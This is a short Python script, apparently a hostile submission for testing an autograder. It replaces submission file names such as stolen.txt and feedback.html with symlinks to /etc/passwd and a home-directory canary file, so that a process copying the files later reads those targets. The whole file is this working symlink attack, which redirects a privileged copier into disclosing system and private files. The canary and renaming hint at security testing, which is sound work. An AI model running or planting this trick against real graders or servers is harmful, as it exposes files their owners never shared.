"""Leaves links to the instructor's files in place of its own, for whoever copies them later."""

import os

for name in ("stolen.txt", "feedback.html", "partial_derivatives.ipynb", "timestamp.txt"):
    for target in ("/etc/passwd", os.path.expanduser("~/canary.txt")):
        try:
            if os.path.lexists(name) and not os.path.islink(name):
                os.rename(name, f"hostile-left-{name}")
            os.symlink(target, name)
        except OSError as error:
            print(error)
